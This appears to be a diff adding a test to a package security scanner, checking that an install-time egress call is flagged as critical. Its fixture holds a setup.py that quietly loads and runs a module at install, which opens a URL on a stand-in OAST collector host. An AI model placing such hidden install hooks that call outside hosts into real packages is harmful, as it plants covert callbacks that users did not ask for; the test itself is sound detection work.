@@ -477,3 +477,33 @@ test('modules imported from a zip archive named like a certificate are analysed,
     'the module inside the zip is read as code',
   );
 });
+
+test('a module setup.py loads from its file (spec_from_file_location) and calls runs at install; a self-hosted OAST host is a collector', async () => {
+  const target = await analyseFiles(
+    {
+      'setup.py': [
+        'import os, sys, importlib.util',
+        'from setuptools import setup',
+        'path = os.path.join(os.path.dirname(__file__), "pkg", "_post.py")',
+        'spec = importlib.util.spec_from_file_location("pkg._post", path)',
+        'post = importlib.util.module_from_spec(spec)',
+        'spec.loader.exec_module(post)',
+        'post.run()',
+        'setup(name="pkg")',
+      ].join('\n'),
+      'pkg/__init__.py': '',
+      'pkg/_post.py': [
+        'import uuid, webbrowser',
+        'def run():',
+        '    webbrowser.open_new_tab(f"https://a1b2c3d4e5.oast.example?id={uuid.uuid4()}")',
+      ].join('\n'),
+    },
+    { name: 'pkg', version: '1.0' },
+  );
+  const call = target.files
+    .find((file) => file.path === 'pkg/_post.py')
+    ?.findings.find((f) => f.rule === 'egress-network-call');
+  assert.equal(call?.trigger, 'install');
+  assert.equal(call?.destination?.kind, 'tunnel-or-oast');
+  assert.equal(call?.severity, 'critical');
+});
